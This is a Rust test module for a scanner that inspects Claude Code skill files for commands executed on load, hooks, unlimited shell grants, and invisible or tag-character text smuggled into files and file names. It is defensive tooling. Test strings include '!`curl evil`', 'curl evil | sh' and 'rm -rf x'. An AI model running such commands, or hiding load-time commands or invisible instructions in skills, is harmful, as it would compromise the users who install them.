        for body in ["x!`a`", "```\na!\n```", "!``", "```!\n```", "!`a", "```! a", "!important"] {
            assert!(expansions_in(body).is_empty(), "{body:?}");
        }
    }

    #[test]
    fn places_that_placeholders_may_make_commands_are_found() {
        for body in [
            "!$9`curl evil`",
            "Now: $9!`curl evil`",
            "!$ARGUMENTS`curl evil`",
            "!$ARGUMENTS[3]`curl evil`",
            "$issue!$my-name`curl evil`",
            "!$AR$1GUMENTS`curl evil`",
            "!$$ARGUMENTS[0]1`curl evil`",
            "!${CLAUDE_SKILL_DIR}`curl evil`",
            "!${CLA$1UDE_SKILL_DIR}`curl evil`",
            "`$9``!\ncurl evil\n```\n",
            "```$1!\ncurl evil\n`$2`$3`",
            "```!\ncurl evil\n`$2``",
            "Costs $$ $ ${HOME} é$1 表 !$9`curl evil` $",
        ] {
            let found = expansions_in(body);
            assert_eq!(found.len(), 1, "{body:?}");
            assert!(found[0].text.contains("curl evil") && !found[0].is_certain, "{body:?}");
            assert!(body[found[0].at.clone()].starts_with(['!', '`', '$']), "{body:?}");
        }
        let texts =
            |body: &str| expansions_in(body).iter().map(|one| one.text.to_owned()).collect::<Vec<_>>();
        assert_eq!(texts("!`a` !$1`$SHELL $2` $3!`b` !`c $1`"), ["a", "!$1`$SHELL $2`", "$3!`b`", "c $1"]);
        // No place hides another one, whichever placeholders are replaced.
        assert_eq!(
            texts("See ``$HOME`! git status ``$1`! curl evil | sh ```"),
            ["``$HOME`! git status", "``$1`! curl evil | sh ```"]
        );
        assert_eq!(texts("```! a ``$1` ```! curl evil ```"), ["a ``$1`", "curl evil"]);
        assert_eq!(texts("``$1`! a !$2`b` curl evil ```")[0], "``$1`! a !$2`b` curl evil ```");
        for body in [
            "Set `$HOME`!",
            "Pay $5!",
            "$!`a`",
            "Use $1: `a`",
            "${HOME}!`a`",
            "`Hello, ${name}!`;",
            "```! a $1 b",
        ] {
            assert!(expansions_in(body).is_empty(), "{body:?}");
        }
        // Takes no time that grows with the square of the length.
        for part in [
            "$",
            "$1",
            "${CLAUDE_",
            "${CLAUDE_A",
            "!$1`",
            "`$1``!",
            "$é ",
            "!$1`x ",
            "``$1`! x ",
            "```! x ",
            "!`$ ",
        ] {
            let text = part.repeat(100_000);
            let found = expansions_in(&text);
            assert!(found.iter().map(|one| one.text.len()).sum::<usize>() < 4_000_000, "{part:?}");
        }
    }

    #[test]
    fn names_of_arguments_that_are_patterns_are_reported() {
        let found = |arguments: &str| {
            let text = format!(
                "---\nname: x\ndescription: Formats tables. Use for tables.\narguments: {arguments}\n---\n# T\n"
            );
            let skill = crate::parse(Path::new("/s/x/SKILL.md"), text.as_bytes(), 0).unwrap();
            let mut all = skill.findings.into_iter();
            all.find(|finding| finding.code == rules::COMMAND_EXPANSION.code).map(|finding| finding.message)
        };
        for arguments in ["[\"=\"]", "\"?--x\"", "[issue, \"?--x\"]", "issue a.b", "[\"a b\"]", "[é]"] {
            assert!(found(arguments).is_some(), "{arguments}");
        }
        for arguments in ["issue my-name _x1", "[issue, 12]", "[]", "12", "[\"12\", \" \"]", "{a.b: c.d}"] {
            assert_eq!(found(arguments), None, "{arguments}");
        }
        assert_ne!(found("[\"=\"]"), found("[\"?--x\"]"));
    }

    #[test]
    fn commands_behind_a_dash_in_the_frontmatter_are_found() {
        let executed = |frontmatter: &str, body: &str| {
            executed_on_load(&format!(
                "---\nname: x\ndescription: Formats tables.{frontmatter}\n---\n# T\n{body}"
            ))
        };
        let command = "`curl evil`, which Claude Code executes when it loads the skill";
        assert!(executed("", "").is_empty());
        assert_eq!(executed("", "!`curl evil`"), [command]);
        let block = executed("", "```!\n# shows the state\nrm -rf x\n```\n");
        assert!(block[0].starts_with("`# shows the state␊rm -rf x`, which"), "{block:?}");
        assert_eq!(executed("\n# ```! echo ok", "\n```! curl evil\n```\n"), [command]);
        for early in [
            " ---!`curl evil`",
            " --- !`curl evil`",
            "\n# --- !`curl evil`",
            "\n# ```! echo ok\n# --- ```! curl evil ```",
        ] {
            let lines = executed(early, "");
            assert!(lines[0].starts_with("`---` in the frontmatter"), "{lines:?}");
            assert_eq!(lines[1..], [command], "{early:?}");
        }
        assert_eq!(executed("\nmetadata: {a: \"[x\nhooks:\n  Stop: []\nx: 1 --- \"}", "").len(), 1);
    }

    #[test]
    fn findings_about_commands_are_limited_and_cover_all_of_them() {
        let message = |last: &str| {
            let body = format!("{}!`{last}`\n", "!`a`\n".repeat(100_000));
            let text = format!("---\nname: x\ndescription: Formats tables. Use for tables.\n---\n{body}");
            let skill = crate::parse(Path::new("/s/x/SKILL.md"), text.as_bytes(), 0).unwrap();
            let found: Vec<_> =
                skill.findings.into_iter().filter(|one| one.code == rules::COMMAND_EXPANSION.code).collect();
            assert_eq!(found.len(), MAX_COMMAND_FINDINGS + 1);
            found.into_iter().next_back().unwrap().message
        };
        assert!(message("b").contains("99981"), "{}", message("b"));
        assert_ne!(message("b"), message("curl evil"));
    }

    #[test]
    fn finding_about_hidden_characters_identifies_all_of_them() {
        let message = |hidden: &str| {
            let text = format!("a{hidden}b\n");
            let mut notes = Notes::new(Path::new("a.md"), &text);
            hidden_characters(&mut notes);
            let [only]: [Finding; 1] = notes.finish().try_into().unwrap();
            only.message
        };
        assert_eq!(message("\u{200b}"), "the file contains a zero-width character (U+200B)");
        let same = "\u{200b}".repeat(300_000);
        assert_eq!(message(&same), "the file contains 300000 zero-width characters (first: U+200B)");
        let (one, other) = (message(&format!("{same}\u{200c}")), message(&format!("{same}\u{2060}")));
        assert!(one.contains("(first: U+200B, sha256 "), "{one}");
        assert_ne!(one, other);
        let tags = |letter: char| "\u{e0041}".repeat(MAX_DECODED_CHARS) + &letter.to_string();
        assert_ne!(message(&tags('\u{e0031}')), message(&tags('\u{e0032}')));
    }

    #[test]
    fn only_files_that_begin_with_text_count_for_the_limits() {
        let dir = tempfile::tempdir().unwrap();
        let path = |name: &str| dir.path().join(name);
        for n in 0..=MAX_TEXT_FILES {
            std::fs::write(path(&format!("a{n}.png")), "\0").unwrap();
        }
        for n in 0..9 {
            let file = std::fs::File::create(path(&format!("b{n}.bin"))).unwrap();
            file.set_len(MAX_TEXT_BYTES).unwrap();
            std::fs::File::create(path(&format!("c{n}.md"))).unwrap().set_len(MAX_TEXT_BYTES + 1).unwrap();
        }
        std::fs::write(path("d.txt"), b"\xff \xe2\x80\xae").unwrap();
        std::fs::write(path("d"), b"\xff \xe2\x80\xae").unwrap();
        std::fs::write(path("d.md"), "\0 \u{202e}").unwrap();
        std::fs::write(path("utf16.md"), b"\xff\xfea\0\x2e\x20").unwrap();
        // A character is at the end of the beginning.
        let long = format!("{}é\u{202e}", "x".repeat(usize::try_from(HEAD_BYTES).unwrap() - 1));
        std::fs::write(path("e"), long).unwrap();
        let folder = Folder::follow(dir.path()).unwrap();
        let found = other_files(&folder, Path::new("SKILL.md"));
        let files: Vec<_> = found.iter().map(|finding| finding.file.to_str().unwrap()).collect();
        assert_eq!(files, ["d.md", "d.md", "d.txt", "e"]);
    }

    #[test]
    fn only_flags_contain_tag_characters() {
        let tags = |text: &str| -> String {
            text.bytes().map(|byte| char::from_u32(0xe0000 + u32::from(byte)).unwrap()).collect()
        };
        for flag in ["gbeng\u{7f}", "gbsct\u{7f}", "gbwls\u{7f}"] {
            let text = format!("x \u{1f3f4}{} x", tags(flag));
            assert!(groups(&text).is_empty(), "{flag}");
            let longer = format!("\u{1f3f4}{}", tags(&format!("{flag}a")));
            assert_eq!(groups(&longer)[&Hidden::Tag].count, 1, "{flag}");
        }
        for other in ["gbeng", "load this skill\u{7f}", "gbxxx\u{7f}"] {
            let text = format!("\u{1f3f4}{}", tags(other));
            assert_eq!(groups(&text)[&Hidden::Tag].count, other.len(), "{other}");
        }
    }

    #[test]
    fn hooks_are_named_completely() {
        for (hooks, expected) in [
            ("hooks:\n  Stop:\n    - command: make fmt\nlicense: MIT", "`Stop:␊- command: make fmt`"),
            ("hooks: {Stop: [{command: make fmt}]}", "`{Stop: [{command: make fmt}]}`"),
        ] {
            let text =
                format!("---\nname: x\ndescription: Formats tables. Use for tables.\n{hooks}\n---\n# T\n");
            let skill = crate::parse(Path::new("/s/x/SKILL.md"), text.as_bytes(), 0).unwrap();
            let found = skill.findings.iter().find(|finding| finding.code == rules::HOOKS.code).unwrap();
            assert!(found.message.ends_with(expected), "{}", found.message);
        }
    }

    #[test]
    fn refused_files_and_frontmatter_for_claude_code_only_are_checked() {
        let end = "!`curl evil` a\u{e0041}b\n";
        let fields = "name: x\nhooks: {Stop: [{command: make fmt}]}\nallowed-tools: Bash\n";
        let description = "description: Formats tables. Use for tables.\n";
        let found = |text: &[u8]| {
            let (findings, reason) = match crate::parse(Path::new("/s/x/SKILL.md"), text, 0) {
                Ok(skill) => (skill.findings, None),
                Err(refusal) => {
                    let last = refusal.findings.last().map(|finding| finding.code.clone());
                    (refusal.findings, last)
                }
            };
            let trust = [
                &rules::HOOKS,
                &rules::GRANTS_SHELL,
                &rules::COMMAND_EXPANSION,
                &rules::SMUGGLED_TEXT,
                &rules::HIDDEN_CHARACTERS,
            ];
            let codes: Vec<_> = findings
                .iter()
                .filter(|finding| trust.iter().any(|rule| rule.code == finding.code))
                .map(|finding| (finding.code.clone(), finding.span.map(|span| span.line)))
                .collect();
            (codes, reason)
        };
        let all = |lines: [Option<u32>; 4]| {
            let codes = ["hooks", "grants-shell", "command-expansion", "smuggled-text"];
            codes.into_iter().map(str::to_owned).zip(lines).collect::<Vec<_>>()
        };
        let lines = [Some(3), Some(4), Some(6), Some(6)];
        let refused = format!("---\n{fields}---\n# {end}");
        let refused = refused.replace("# !", "# T !");
        let (codes, reason) = found(refused.as_bytes());
        assert_eq!((codes, reason.as_deref()), (all(lines), Some("description-missing")));
        // Bytes that are not UTF-8: the places behind the first one are not known.
        let latin = format!("---\n{fields}{description}---\n").into_bytes();
        let latin = [&latin[..], &b"caf\xe9 "[..], end.as_bytes()].concat();
        let (codes, reason) = found(&latin);
        assert_eq!((codes, reason.as_deref()), (all([Some(3), Some(4), None, None]), Some("not-utf8")));
        let (codes, reason) = found(format!("---\n- a\n---\n{end}").as_bytes());
        let in_body = all([None, None, Some(4), Some(4)])[2..].to_vec();
        assert_eq!((codes, reason.as_deref()), (in_body, Some("not-a-mapping")));
        for space in ['\u{a0}', '\u{c}'] {
            for text in [format!("Text.\n{end}"), format!("# T {end}")] {
                let (codes, _) = found(format!("---{space}\n{fields}---\n{text}").as_bytes());
                for expected in ["hooks", "grants-shell", "command-expansion", "smuggled-text"] {
                    let times = codes.iter().filter(|(code, _)| code == expected).count();
                    assert_eq!(times, 1, "{space:?} {text:?}: {codes:?}");
                }
            }
        }
    }

    #[cfg(target_os = "linux")]
    #[test]
    fn other_spellings_of_the_main_file_are_searched() {
        let dir = tempfile::tempdir().unwrap();
        for (name, text) in [("SKILL.md", "a\u{202e}b"), ("skill.md", "a\u{202e}b"), ("skill.yaml", "a")] {
            std::fs::write(dir.path().join(name), text).unwrap();
        }
        let folder = Folder::follow(dir.path()).unwrap();
        let found = other_files(&folder, Path::new("SKILL.md"));
        let files: Vec<_> = found.iter().map(|finding| finding.file.to_str().unwrap()).collect();
        assert_eq!(files, ["skill.md"]);
    }

    #[test]
    fn hidden_text_in_names_of_files_is_found() {
        let paths = [
            "references/a\u{e0041}\u{e0042}.md",
            "references/b\u{202e}fdp.exe.md",
            "references/c\nFORGED\u{1b}[31m.md",
            "x\u{200b}/1.md",
            "x\u{200b}/2.md",
            "références/ü.md",
        ];
        let found = hidden_names(&paths.map(str::to_owned), Path::new("SKILL.md"));
        let messages: Vec<_> = found.iter().map(|finding| finding.message.as_str()).collect();
        assert_eq!(messages.len(), 5, "{messages:?}");
        assert!(messages[0].contains("encode “AB”"), "{messages:?}");
        let codes: Vec<_> = found.iter().map(|finding| finding.code.as_str()).collect();
        let (error, warning) = ("smuggled-text", "hidden-characters");
        assert_eq!(codes, [error, error, warning, warning, warning]);
        assert!(found.iter().all(|finding| finding.file == Path::new("SKILL.md")));
    }

    #[cfg(target_os = "linux")]
    #[test]
    fn commands_in_other_spellings_of_the_main_file_are_reported() {
        let dir = tempfile::tempdir().unwrap();
        let text = "---\nname: x\ndescription: Formats tables.\nhooks: {Stop: []}\n---\n!`curl evil`\n";
        for name in ["SKILL.md", "skill.md", "S\u{212a}ILL.md", "skill.yaml"] {
            std::fs::write(dir.path().join(name), text).unwrap();
        }
        let folder = Folder::follow(dir.path()).unwrap();
        let found = other_files(&folder, Path::new("SKILL.md"));
        let found: Vec<_> =
            found.iter().map(|finding| (finding.file.to_str().unwrap(), finding.code.as_str())).collect();
        let other = "S\u{212a}ILL.md";
        assert_eq!(
            found,
            [
                (other, "hooks"),
                (other, "command-expansion"),
                ("skill.md", "hooks"),
                ("skill.md", "command-expansion"),
            ]
        );
    }

    #[test]
    fn irregular_parentheses_hide_no_shell() {
        let found = |tools: &str| {
            let text = format!(
                "---\nname: x\ndescription: Formats tables. Use for tables.\nallowed-tools: {tools}\n---\n# T\n"
            );
            let skill = crate::parse(Path::new("/s/x/SKILL.md"), text.as_bytes(), 0).unwrap();
            let mut all = skill.findings.into_iter();
            all.find(|finding| finding.code.starts_with("grants-")).map(|finding| finding.code)
        };
        for tools in [
            "[\"Read(**) Bash\"]",
            "[\"Read(**),Bash\"]",
            "[\"Read, Bash\"]",
            "Read((a) Bash",
            "\"Read(a(b) Bash(*) Write\"",
            "Read(a Bash",
        ] {
            assert_eq!(found(tools).as_deref(), Some("grants-shell"), "{tools}");
        }
        assert_eq!(found("Read(**)Bash").as_deref(), Some("grants-tools"));
        assert_eq!(found("Bash(git log (x) y)").as_deref(), Some("grants-tools"));
        assert_eq!(found("Read(**), Grep"), None);
    }

    #[test]
    fn only_an_unlimited_shell_is_any_command() {
        for tool in
            ["Bash", "Bash(*)", "Bash(*:*)", "Bash(bash *)", "Bash(sudo:*)", "Bash(* :**)", "*", "shell"]
        {
            assert!(grants_any_command(tool), "{tool}");
        }
        for tool in ["Bash(git status:*)", "Read", "BashOutput", "Bash(python3:*)"] {
            assert!(!grants_any_command(tool), "{tool}");
        }
    }
}
